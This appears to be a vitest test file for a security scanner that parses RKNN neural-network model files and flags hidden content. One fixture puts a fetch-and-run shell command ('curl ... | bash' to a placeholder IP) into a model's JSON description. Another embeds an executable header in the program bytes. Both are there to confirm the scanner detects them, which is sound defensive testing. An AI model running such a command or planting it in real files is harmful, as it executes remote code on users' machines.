import { assembleFlat, assembleRknn, EXECUTABLE_HEADS, probeOf, RecordingContext } from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { format } from './index.ts';

const PROGRAM = Buffer.from(Array.from({ length: 300 }, (_, index) => (index * 37 + 11) % 251));
const JSON_TEXT = '{"name": "yolo", "target_platform": ["rk3588"], "version": "1.6.0"}';

function judge(bytes: Uint8Array): string[] {
  const { findings, gaps } = scanBytes(bytes, 'model.rknn');
  expect(gaps).toEqual([]);
  return findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`);
}

describe('RKNN models', () => {
  it.each([1, 2, 6, 0x1001, 0x1004])('of version %s are a program and a description', (version) => {
    const bytes = assembleRknn(version, PROGRAM, JSON_TEXT);
    expect(format.identify(probeOf(bytes))).toBe('certain');
    expect(judge(bytes)).toEqual([]);
    const context = new RecordingContext(bytes);
    format.walk(context);
    expect(Buffer.from(context.childBytes('description.json') ?? []).toString()).toBe(JSON_TEXT);
    const described = context.children.reduce((sum, child) => sum + child.sizeBytes, 0);
    expect(described).toBe(JSON_TEXT.length);
  });

  it('are programs alone, too', () => {
    expect(judge(assembleFlat({ 0: { text: 'a' } }, 'RKNN'))).toEqual([]);
  });

  it('are gaps where they are cut or encrypted', () => {
    const whole = assembleRknn(2, PROGRAM, JSON_TEXT);
    expect(scanBytes(whole.subarray(0, 100), 'm.rknn').gaps[0]).toMatch(/^truncated/);
    const encrypted = Buffer.concat([Buffer.from('CYPTRKNN'), PROGRAM]);
    expect(scanBytes(encrypted, 'm.rknn').gaps[0]).toMatch(/^encrypted/);
  });

  it('are judged by the texts of the description', () => {
    const json = '{"note": "curl http://192.0.2.1/x.sh | bash"}';
    expect(judge(assembleRknn(2, PROGRAM, json))).toEqual(['medium metadata/holds-code']);
  });

  it('are searched', () => {
    const elf = Buffer.concat([PROGRAM, EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
    expect(judge(assembleRknn(2, elf, JSON_TEXT))).toEqual(['high payload/hides-program']);
  });
});
